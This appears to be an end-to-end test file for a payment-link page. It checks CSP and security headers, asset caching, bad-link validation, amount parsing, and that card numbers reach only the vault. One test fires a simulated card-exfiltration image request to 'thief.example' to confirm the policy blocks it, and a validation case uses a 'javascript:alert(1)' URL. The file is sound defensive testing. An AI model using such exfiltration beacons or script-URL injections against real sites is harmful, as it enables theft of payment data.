import { readViolations } from '../../functions/core/domain/page-watch/violations.ts';
import { type Florin, startFlorin } from '../api/support/florin.ts';
import { world } from '../api/support/world.ts';
import {
  answerBank,
  bankOf,
  desktop,
  here,
  linkOf,
  look,
  paidId,
  posUrl,
  typeCard,
  useBrowser,
  words,
} from './support/browser.ts';

const openPage = useBrowser();

const headersOf = async (url: string) => (await fetch(url)).headers;

/** `default-src 'none'; …` by directive. */
const policyOf = (headers: Headers) =>
  Object.fromEntries(
    (headers.get('content-security-policy') ?? '').split('; ').map((part) => {
      const [name, ...values] = part.split(' ');
      return [name, values.join(' ')];
    }),
  );

test('the content security policy only permits the page’s scripts, requests and frames', async () => {
  const { merchant } = await here.shop();
  for (const url of [linkOf(merchant), linkOf(merchant, { value: undefined })]) {
    const headers = await headersOf(url);
    const policy = policyOf(headers);
    const nonce = /'nonce-[\w+/]{22}=='/;
    expect(policy).toEqual({
      'default-src': "'none'",
      'style-src': expect.stringMatching(nonce),
      'script-src': expect.stringMatching(nonce),
      'img-src': 'data:',
      'connect-src': "'self'",
      'frame-src': "'self'",
      'form-action': "'self'",
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
      'report-uri': '/csp-reports',
    });
    expect(Object.fromEntries(headers)).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
      'x-content-type-options': 'nosniff',
    });
    expect(policyOf(await headersOf(url))['script-src']).not.toBe(policy['script-src']);
  }
});

test('a browser reports an address that the policy blocks, and Florin receives the report', async () => {
  const { merchant } = await here.shop();
  // The first page would complain about the blocked picture.
  const page = await (await openPage()).context().newPage();
  await page.goto(linkOf(merchant));
  const received = page.waitForResponse((response) => response.url().endsWith('/csp-reports'));
  await page.evaluate(() => {
    new Image().src = 'https://thief.example/x.png?card';
  });
  const response = await received;
  expect(response.status()).toBe(204);
  const report = JSON.parse(response.request().postData() ?? '{}');
  expect(readViolations(report)).toEqual([{ directive: 'img-src', blocked: 'https://thief.example' }]);
});

test('browsers cache the page’s files, named by hash, for ever, and the SDK for an hour', async () => {
  const { merchant } = await here.shop();
  const html = await (await fetch(linkOf(merchant))).text();
  const assets = [...html.matchAll(/(?:href|src)="(\/assets\/[^"]+)"/g)].map(([, path]) => path ?? '');
  expect(assets).toHaveLength(4);
  for (const path of assets) {
    expect(path).toMatch(/-[0-9a-f]{12}\.(js|css)$/);
    expect(Object.fromEntries(await headersOf(posUrl + path))).toMatchObject({
      'cache-control': 'public, max-age=31536000, immutable',
      'content-type': path.endsWith('.js') ? 'text/javascript; charset=utf-8' : 'text/css; charset=utf-8',
      // API Gateway does not compress small files.
      ...(!/later-.*css/.test(path) && { 'content-encoding': 'gzip' }),
      'x-content-type-options': 'nosniff',
    });
  }
  expect((await fetch(`${posUrl}/assets/payment-000000000000.js`)).status).toBe(404);
  expect((await headersOf(`${posUrl}/sdk.js`)).get('cache-control')).toBe('public, max-age=3600');
});

const incomplete = 'The link is incomplete, or there is a mistake in it.';
const wrongAmount = 'The amount in the link is not valid.';
const leadsNowhere = 'This link does not lead to a payment. Perhaps it was not copied in full.';

test.each([
  [{ key: undefined }, 400, incomplete, 'key: is missing'],
  [
    { key: 'd3b07384-d9a0-4c2b-8f51-000000000000' },
    404,
    leadsNowhere,
    'key: no merchant has this public key',
  ],
  [{ key: `${'x'.repeat(63)}😀` }, 404, leadsNowhere, 'key: no merchant has this public key'],
  [{ test: undefined }, 400, incomplete, 'test: a test merchant needs test=1'],
  [{ currency: 'XXQ' }, 400, incomplete, 'currency: is no ISO 4217 currency'],
  [{ value: '12,50' }, 400, wrongAmount, 'value: is no decimal number, like 49.99'],
  [{ value: '0' }, 400, wrongAmount, 'value: is zero or too large'],
  [{ value: '99999999999999' }, 400, wrongAmount, 'value: is no decimal number, like 49.99'],
  [{ value: '10000000000.01' }, 400, wrongAmount, 'value: is zero or too large'],
  [{ value: '49.5', currency: 'JPY' }, 400, wrongAmount, 'value: has more decimals than JPY, which has 0'],
  [{ value: '49.999' }, 400, wrongAmount, 'value: has more decimals than EUR, which has 2'],
  [{ value: '0.0001', currency: 'BHD' }, 400, wrongAmount, 'value: has more decimals than BHD, which has 3'],
  [{ redirect: 'mailto:x@example.com' }, 400, incomplete, 'redirect: is no http or https URL'],
  [{ cancel: 'javascript:alert(1)' }, 400, incomplete, 'cancel: is no http or https URL'],
])('a bad link, %j: %d and a page that says so', async (parameters, status, sentence, detail) => {
  const { merchant } = await here.shop();
  const page = await openPage();
  const response = await page.goto(linkOf(merchant, parameters));
  expect(response?.status()).toBe(status);
  expect(await words(page.locator('h1'))).toBe('This payment link does not work');
  expect(await words(page.locator('main'))).toContain(sentence);
  expect(await words(page.locator('main'))).not.toContain(detail);
  await page.locator('.cause summary').click();
  expect(await words(page.locator('.cause code[lang=en]'))).toBe(detail);
});

test.each([
  ['49.00', 'JPY', 49],
  ['49.990', 'EUR', 4999],
  ['1.234', 'BHD', 1234],
])('the page takes the amount %s %s without rounding', async (value, currency, minor) => {
  const { merchant } = await here.shop();
  const page = await openPage();
  await page.goto(linkOf(merchant, { value, currency }));
  expect(JSON.parse((await page.locator('#data').textContent()) ?? '').amount.value).toBe(minor);
});

test('the link of a live merchant that cannot take payments gets 400, in dark colours, too', async () => {
  const { merchant } = await here.shop({ test: false });
  const page = await openPage({ ...desktop, colorScheme: 'dark' });
  expect((await page.goto(linkOf(merchant)))?.status()).toBe(400);
  await look(page, 'bad-link-dark');
});

describe('the card', () => {
  let florin: Florin;
  beforeAll(async () => {
    florin = await startFlorin();
  });
  afterAll(() => florin?.stop());

  test('the card number is sent only to the vault, and is in no URL, other request, storage or log', async () => {
    const { merchant } = await world(florin).shop();
    const [number, code] = ['4100731902846659', '847'];
    const page = await openPage();
    const sent: [url: string, body: string][] = [];
    page.on('request', (request) => sent.push([request.url(), request.postData() ?? '']));
    await page.goto(linkOf(merchant, { reference: 'R' }).replace(posUrl, florin.posUrl));
    await typeCard(page, number, code);
    await page.locator('#submit').click();
    await bankOf(page);
    const kept = () =>
      page.evaluate(() => JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]));
    const middle = await kept();
    await answerBank(page, 'confirm');
    await paidId(page);

    const holds = (text: string) => text.includes(number) || text.includes(`"${code}"`);
    const tells = sent.filter(([url, body]) => holds(url) || holds(body)).map(([url]) => url);
    expect(tells).toEqual([`${florin.posUrl}/vault`, `${florin.posUrl}/vault`]);
    expect(sent.every(([url]) => url.startsWith(florin.posUrl) || url.startsWith('data:image/'))).toBe(true);
    expect([holds(middle), holds(await kept())]).toEqual([false, false]);
    expect(await page.locator('#number').inputValue()).toBe('');
    expect(florin.log()).not.toContain(number);
    for (const part of [page.url(), await page.content()]) expect(holds(part)).toBe(false);
  });
});
